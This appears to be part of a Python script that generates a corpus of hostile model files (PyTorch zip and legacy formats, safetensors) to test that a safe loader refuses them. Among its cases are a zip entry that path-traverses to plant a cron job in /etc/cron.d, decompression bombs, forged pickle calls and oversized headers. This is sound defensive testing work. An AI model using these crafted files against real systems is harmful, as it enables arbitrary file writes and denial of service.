    ft("size_beyond_int64", {"w": FakeTensor(s(4), 0, (1 << 70,), (0,))}, four, "size 2^70 (a LONG1 integer)",
       "as an int")
    ft("storage_dtype_conflict", {"a": FakeTensor(s(4), 0, (4,), (1,)),
                                  "b": FakeTensor(s(2, cls=torch.LongStorage), 0, (2,), (1,))}, four,
       "one storage key named as FloatStorage and as LongStorage", "named both as")
    ft("missing_storage_record", {"w": FakeTensor(s(4, key="7"), 0, (4,), (1,))}, four,
       "the pickle names storage 7, which has no record", "does not have")
    ft("negative_storage_numel", {"w": FakeTensor(s(-1), 0, (1,), (1,))}, four, "storage numel -1",
       "malformed storage persistent id")
    ft("tensor_metadata_flags", {"w": FakeTensor(s(4), 0, (4,), (1,), extra=({"conj": True},))}, four,
       "_rebuild_tensor_v2 with a non-empty metadata dict", "not supported")
    c.add("storage_argument_not_storage.pth",
          torch_zip(proto2(call(glob("torch._utils", "_rebuild_tensor_v2"), ustr("0"), binint(0), MARK + binint(1) + TUPLE,
                                MARK + binint(1) + TUPLE, NEWFALSE, call(glob("collections", "OrderedDict")))), four),
          "forged_tensor", "_rebuild_tensor_v2 with a str where the storage belongs", contains="expected a storage")
    ft("stride0_giant_expand", {"expanded": FakeTensor(s(4), 0, (1 << 40,), (0,))}, four,
       "a stride-0 view of 2^40 elements over one float (4 TiB if densified): loads as a view",
       None, outcome="loaded",
       expected={"keys": ["expanded"], "tensors": {"expanded": {"dtype": "float32", "shape": [1 << 40], "stride": [0],
                                                                "first": 1.5}}})
    ft("stride0_expand_2d", {"expanded": FakeTensor(s(4), 1, (1 << 30, 3), (0, 1))}, four,
       "a [2^30, 3] view with stride (0, 1) over 3 floats: loads as a view", None, outcome="loaded",
       expected={"keys": ["expanded"], "tensors": {"expanded": {"dtype": "float32", "shape": [1 << 30, 3],
                                                                "stride": [0, 1], "first": 2.0}}})


# ---------------------------------------------------------------------------------------------------
# zip tricks


def zip_files(c):
    obj, records = small_state_dict_pickle()

    def base(**overrides):
        entries = torch_entries(obj, records=records)
        return entries

    def zt(name, data, description, contains, error="FileFormatException", outcome="refused", expected=None):
        c.add(name + ".pth", data, "zip_trick", description, contains=contains, error=error, outcome=outcome,
              expected=expected)

    e = base()
    e[0] = Entry("archive/data.pkl", obj, local_name="archive/data.pkm")
    zt("local_name_differs", zip_bytes(e), "the local header names archive/data.pkm, the directory archive/data.pkl",
       "local header names a different entry")
    e = base()
    e[1] = Entry("archive/data/0", records["0"], local_crc=0x12345678)
    zt("local_crc_differs", zip_bytes(e), "the local header's CRC-32 differs from the directory's",
       "local header CRC or sizes disagree")
    e = base()
    e[1] = Entry("archive/data/0", records["0"], local_method=8)
    zt("local_method_differs", zip_bytes(e), "local header says deflated, directory stored", "local header says method")
    e = base() + [Entry("archive/data.pkl", proto2(NONE))]
    zt("duplicate_names", zip_bytes(e), "two entries named archive/data.pkl", "duplicate entry name")
    e = base() + [Entry("archive/DATA.pkl", proto2(NONE))]
    zt("case_only_duplicates", zip_bytes(e), "archive/data.pkl and archive/DATA.pkl", "differ only in case")
    e = base() + [Entry("archive/../../etc/cron.d/evil", b"* * * * * root touch /tmp/x\n")]
    zt("path_traversal", zip_bytes(e), "an entry named archive/../../etc/cron.d/evil", "'..' segment")
    e = base() + [Entry("/etc/evil", b"x")]
    zt("absolute_path", zip_bytes(e), "an entry named /etc/evil", "absolute path")
    e = base() + [Entry("archive\\..\\evil", b"x")]
    zt("backslash_name", zip_bytes(e), "an entry named archive\\..\\evil", "backslash")
    # entry A's data holds a complete local header and data of entry B, which the directory also lists
    inner = Entry("archive/data/1", floats(9.0))
    outer_data = local_header(inner) + inner.compressed
    e = base() + [Entry("archive/blob", outer_data)]
    blob_offset = sum(len(local_header(x)) + len(x.compressed) for x in e[:-1])
    zt("overlapping_entries", zip_bytes(e, extra_central=[(inner, blob_offset + len(local_header(e[-1])))]),
       "the directory lists an entry whose bytes lie inside another entry's data", "overlap")
    e = base()
    e[0] = Entry("archive/data.pkl", obj, flags=1)
    zt("encrypted_flag", zip_bytes(e), "data.pkl flagged as encrypted", "encrypted")
    e = base()
    e[0] = Entry("archive/data.pkl", obj, method=12, compressed=obj)
    zt("unknown_method", zip_bytes(e), "data.pkl compressed with method 12 (bzip2)", "unsupported compression method 12")
    zeros = bytes(64 << 20)
    big = torch_pickle({"w": FakeTensor(StorageRef("0", torch.FloatStorage, len(zeros) // 4), 0, (4,), (1,))})
    e = torch_entries(big)
    e.insert(1, Entry("archive/data/0", zeros, method=8))
    zt("deflate_bomb_ratio", zip_bytes(e), "a 64 MiB record deflated to about 64 KiB (ratio above 1000:1)",
       "ratio above the limit", error="LimitExceededException")
    chunk = bytes(1 << 20)
    deflated_chunk = deflate(chunk)
    e = torch_entries(obj, records=records)
    for i in range(4200):
        e.append(Entry(f"archive/pad/{i}", chunk, method=8, compressed=deflated_chunk))
    zt("deflate_bomb_total", zip_bytes(e),
       "4200 records of 1 MiB zeros, each deflated to 1 KiB: 4.1 GiB in total from a 5 MB file",
       "in total", error="LimitExceededException")
    e = base()
    e[0] = Entry("archive/data.pkl", obj + b"\0" * 1000, method=8, size=len(obj))
    zt("deflate_longer_than_declared", zip_bytes(e), "data.pkl inflates to more bytes than its declared size",
       "more than the declared")
    e = [Entry(x.name, x.data, method=8) for x in base()]
    zt("deflated_records", zip_bytes(e), "every record deflated (as zip tools write): loads", None,
       outcome="loaded", expected=SMALL_EXPECTED)
    e = base()
    e[1] = Entry("archive/data/0", records["0"], crc=0xDEADBEEF)
    zt("crc_mismatch_data", zip_bytes(e),
       "a storage record whose CRC-32 (in both headers) is wrong: torch.load never checks, nor does a load; "
       "pith verify must", None, outcome="loaded", expected=SMALL_EXPECTED)
    zt("prepended_junk", b"PK\x03\x04" + b"\0" * 60 + zip_bytes(base()),
       "64 bytes prepended to a valid archive, starting like a local header", "prepended")
    zt("appended_junk", zip_bytes(base()) + b"trailing junk",
       "bytes after the end of central directory record", "no end of central directory record")
    whole = zip_bytes(base())
    cd_at = whole.rindex(b"PK\x01\x02")
    zt("truncated_directory", whole[:cd_at + 20], "the archive cut inside its central directory",
       "no end of central directory record")
    zt("directory_count_too_high", zip_bytes(base(), count=7), "the end record counts 7 entries, the directory has 3",
       "central directory")
    e = base()
    e[1] = Entry("archive/data/0", records["0"], csize=1 << 30, size=1 << 30)
    zt("entry_past_end", zip_bytes(e), "a record declaring 1 GiB of data in a tiny file", "run past")
    zt("local_offset_past_directory", zip_bytes(base(), offsets={1: 1 << 20}),
       "a directory entry pointing past the central directory", "is not before the central directory")
    multi = bytearray(zip_bytes(base()))
    multi[-22 + 4:-22 + 6] = struct.pack("<H", 1)
    zt("multi_disk", bytes(multi), "the end record says disk 1", "multi-disk")
    # ZIP64 end record claiming 2^40 entries
    plain = zip_bytes(base())
    eocd_at = len(plain) - 22
    cd_size, cd_offset = struct.unpack("<II", plain[eocd_at + 12:eocd_at + 20])
    z64 = (b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1 << 40, 1 << 40, cd_size, cd_offset))
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, eocd_at, 1)
    end = eocd(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    zt("zip64_entry_count_huge", plain[:eocd_at] + z64 + locator + end,
       "a ZIP64 end record claiming 2^40 entries", "more than the limit", error="LimitExceededException")

    class Tiny(torch.nn.Module):
        def forward(self, x):
            return x + 1

    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Tiny()), buffer)
    zt("torchscript_archive", buffer.getvalue(), "a real TorchScript archive (torch.jit.save)", "TorchScript")
    zt("no_version_record", zip_bytes(torch_entries(obj, records=records, version=None)),
       "no archive/version record", "no version record")
    zt("version_99", zip_bytes(torch_entries(obj, records=records, version=b"99\n")), "version record 99",
       "unsupported file format version")
    zt("byteorder_middle", zip_bytes(base() + [Entry("archive/byteorder", b"middle")]), "byteorder record 'middle'",
       "unknown byte order")
    zt("names_without_folder", zip_bytes([Entry("data.pkl", obj), Entry("version", b"3\n")]),
       "records not inside a top-level folder", "not in a subdirectory")


# ---------------------------------------------------------------------------------------------------
# legacy format


def legacy_files(c):
    def obj_with(*refs):
        return torch_pickle({f"t{i}": FakeTensor(r, 0, (r.numel,), (1,)) for i, r in enumerate(refs)})

    def ref(key, numel, view=None):
        return StorageRef(key, torch.FloatStorage, numel, legacy=True, view=view)

    def lt(name, data, description, contains, error="FileFormatException", outcome="refused", expected=None):
        c.add(name + ".pth", data, "legacy_trick", description, container="torch-legacy", contains=contains,
              error=error, outcome=outcome, expected=expected)

    valid = obj_with(ref("0", 2))
    lt("legacy_valid", legacy(valid, ["0"], [(2, floats(1.5, 2.0))]), "a well-formed legacy stream: loads", None,
       outcome="loaded",
       expected={"keys": ["t0"], "tensors": {"t0": {"dtype": "float32", "shape": [2], "stride": [1], "first": 1.5}}})
    lt("legacy_wrong_protocol", legacy(valid, ["0"], [(2, floats(1.5, 2.0))], protocol=pickle.dumps(1002, protocol=2)),
       "protocol version 1002", "invalid protocol version 1002")
    lt("legacy_magic_int", legacy(valid, ["0"], [(2, floats(1.5, 2.0))], magic=pickle.dumps(42, protocol=2)),
       "the magic number is 42", "invalid magic number 42")
    lt("legacy_storage_without_data", legacy(valid, [], []), "the pickle names storage 0, the key list is empty",
       "has no data")
    lt("legacy_data_without_storage", legacy(valid, ["0", "1"], [(2, floats(1.5, 2.0)), (1, floats(3.0))]),
       "the key list names storage 1, which the pickle never does", "not named in the pickle")
    lt("legacy_count_mismatch", legacy(valid, ["0"], [(3, floats(1.5, 2.0, 3.0))]),
       "the stream holds 3 elements where the pickle declares 2", "holds 3 elements in the file")
    lt("legacy_count_huge", legacy(valid, ["0"], [(1 << 62, floats(1.5, 2.0))]), "element count 2^62",
       "holds 4611686018427387904 elements")
    lt("legacy_numel_beyond_file", legacy(obj_with(ref("0", 1 << 40)), ["0"], [(2, floats(1.5, 2.0))]),
       "the pickle declares a storage of 2^40 floats in a tiny file", "more than the whole file")
    lt("legacy_truncated_data", legacy(valid, ["0"], [(2, floats(1.5))]), "the storage's bytes are cut short",
       "truncated: storage 0")
    refs = [ref(str(i), 3000) for i in range(2000)]
    lt("legacy_storages_exceed_file", legacy(obj_with(*refs), [], []),
       "2000 storages of 12 KB each declared in a 300 KB file (each alone fits)", "more than the file")
    lt("legacy_keys_not_list", legacy(valid, ["0"], [(2, floats(1.5, 2.0))], keys_pickle=pickle.dumps({"0": 1}, 2)),
       "the storage-key pickle is a dict", "expected the list of storage keys")
    lt("legacy_trailing_data", legacy(valid, ["0"], [(2, floats(1.5, 2.0))], tail=b"\x80\x02hidden"),
       "bytes after the last storage", "after the last storage")
    lt("legacy_view_outside", legacy(obj_with(ref("0", 2, view=("v", 1, 100))), ["0"], [(2, floats(1.5, 2.0))]),
       "a legacy storage view of 100 elements at offset 1 of a 2-element storage", "lies outside storage")
    lt("legacy_truncated_before_keys", legacy(valid, [], [], keys_pickle=b""), "the stream ends after the object",
       "truncated pickle")
    module_pid = proto2(MARK + ustr("module") + glob("collections", "OrderedDict") + ustr("src") + TUPLE + b"Q")
    lt("legacy_module_persistent_id", legacy(module_pid, []), "a 'module' persistent id (a whole pickled nn.Module)",
       "whole pickled model class")


# ---------------------------------------------------------------------------------------------------
# safetensors headers


def safetensors_files(c):
    def sf(name, data, description, contains, error="SafeTensorsFormatException", outcome="refused", expected=None):
        c.add(name + ".safetensors", data, "safetensors_header", description, container="safetensors",
              loader="safetensors", contains=contains, error=error, outcome=outcome, expected=expected)

    def t(dtype, shape, begin, end):
        return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}

    eight = floats(1.5, 2.0)
    sf("st_valid", safetensors({"w": t("F32", [2], 0, 8)}, eight), "a valid file: loads", None, outcome="loaded",
       expected={"keys": ["w"], "tensors": {"w": {"dtype": "float32", "shape": [2], "stride": [1], "first": 1.5}}})
    sf("st_header_length_huge", safetensors({"w": t("F32", [2], 0, 8)}, eight, length=(1 << 63) - 1),
       "header length 2^63 - 1", "header too large", error="LimitExceededException")
    sf("st_header_length_past_end", safetensors({"w": t("F32", [2], 0, 8)}, eight, length=5000),
       "header length 5000 in a 60-byte file", "invalid header length")
    sf("st_too_small", b"\x05\x00\x00", "3 bytes", "header too small")
    sf("st_not_utf8", safetensors(b'{"w\xff":{}}'), "header bytes that are not UTF-8", "not valid UTF-8")
    sf("st_not_object", safetensors(b"[1, 2]   "), "a JSON array as the header", "must begin with '{'")
    sf("st_bom", safetensors(b"\xef\xbb\xbf{}"), "a UTF-8 byte order mark before the header", "must begin with '{'")
    sf("st_invalid_json", safetensors(b'{"w": '), "JSON cut short", "invalid JSON")
    sf("st_duplicate_key", safetensors(b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
                                       b'"w":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}', eight),
       "tensor w twice", "duplicate key")
    sf("st_metadata_not_strings", safetensors({"__metadata__": {"a": 1}, "w": t("F32", [2], 0, 8)}, eight),
       "__metadata__ with a number", "__metadata__ values must be strings")
    sf("st_metadata_not_object", safetensors({"__metadata__": [], "w": t("F32", [2], 0, 8)}, eight),
       "__metadata__ as an array", "__metadata__ must be an object")
    sf("st_unknown_dtype", safetensors({"w": t("F33", [2], 0, 8)}, eight), "dtype F33", "unknown dtype")
    sf("st_missing_offsets", safetensors({"w": {"dtype": "F32", "shape": [2]}}, eight), "no data_offsets",
       "missing field")
    sf("st_overlap", safetensors({"a": t("F32", [2], 0, 8), "b": t("F32", [1], 4, 8)}, eight), "b inside a", "overlaps")
    sf("st_hole", safetensors({"a": t("F32", [1], 0, 4), "b": t("F32", [1], 8, 12)}, eight + floats(3.0)),
       "4 unused bytes between a and b", "hole")
    sf("st_end_before_begin", safetensors({"a": t("F32", [0], 8, 4)}, eight), "data_offsets [8, 4]",
       "ends before it begins")
    sf("st_shape_overflow", safetensors({"a": t("F32", [1 << 62, 1 << 62], 0, 8)}, eight), "shape [2^62, 2^62]",
       "overflow")
    sf("st_size_mismatch", safetensors({"a": t("F32", [3], 0, 8)}, eight), "3 floats in 8 bytes", "needs 12 bytes")
    sf("st_buffer_incomplete", safetensors({"a": t("F32", [2], 0, 8)}, floats(1.5)), "data cut short",
       "not fully covered")
    sf("st_trailing_bytes", safetensors({"a": t("F32", [2], 0, 8)}, eight + b"junk"), "bytes after the last tensor",
       "bytes after the last tensor")
    sf("st_negative_shape", safetensors({"a": t("F32", [-2], 0, 8)}, eight), "shape [-2]", "non-negative integers")
    sf("st_float_shape", safetensors({"a": t("F32", [1.5], 0, 8)}, eight), "shape [1.5]", "non-negative integers")
    sf("st_offset_beyond_int64", safetensors(b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,'
                                             + str(1 << 70).encode() + b"]}}", eight), "an offset of 2^70",
       "invalid offset")
    sf("st_deep_json", safetensors(b'{"__metadata__":' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
       "arrays nested 100,000 deep in the header", "invalid JSON")
    sf("st_rank_1000", safetensors({"a": t("F32", [1] * 1000, 0, 4)}, floats(1.5)),
       "a tensor of rank 1000 (ones): valid for the reference implementation, beyond Pith's rank limit of 64",
       "dimensions", error="LimitExceededException")
    sf("st_rank_64", safetensors({"a": t("F32", [1] * 64, 0, 4)}, floats(1.5)),
       "a tensor of rank 64 (ones), the most Pith accepts: loads", None, outcome="loaded",
       expected={"keys": ["a"], "tensors": {"a": {"dtype": "float32", "rank": 64, "first": 1.5}}})
    sf("st_huge_shape_array", safetensors(b'{"a":{"dtype":"F32","shape":[' + b",".join([b"1"] * 2_000_000)
                                          + b'],"data_offsets":[0,4]}}', floats(1.5)),
       "a shape array of 2 million ones (a 4 MB header)", "dimensions", error="LimitExceededException")


def main(argv):
    if len(argv) != 3:
        print("usage: make_hostile.py OUTDIR MARKER_DIR", file=sys.stderr)
        return 2
    outdir = os.path.abspath(argv[1])
    marker_dir = os.path.abspath(argv[2])
    os.makedirs(outdir, exist_ok=True)
    os.makedirs(marker_dir, exist_ok=True)
    markers_before = set(os.listdir(marker_dir))
    manifest_path = os.path.join(outdir, "manifest.json")
    if os.path.exists(manifest_path):
        os.remove(manifest_path)

    c = Corpus(outdir, marker_dir)
    original_files(c)
    code_execution_files(c)
    pickle_attack_files(c)
    structural_files(c)
    forged_tensor_files(c)
    zip_files(c)
    legacy_files(c)
    safetensors_files(c)

    leftovers = sorted(set(os.listdir(marker_dir)) - markers_before)
    assert not leftovers, f"making the hostile files ran something: {leftovers}"
    manifest = {"marker_dir": marker_dir, "files": c.entries}
    with open(manifest_path + ".tmp", "w", encoding="utf-8") as f:
        json.dump(manifest, f, indent=2, ensure_ascii=False)
        f.write("\n")
    os.replace(manifest_path + ".tmp", manifest_path)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
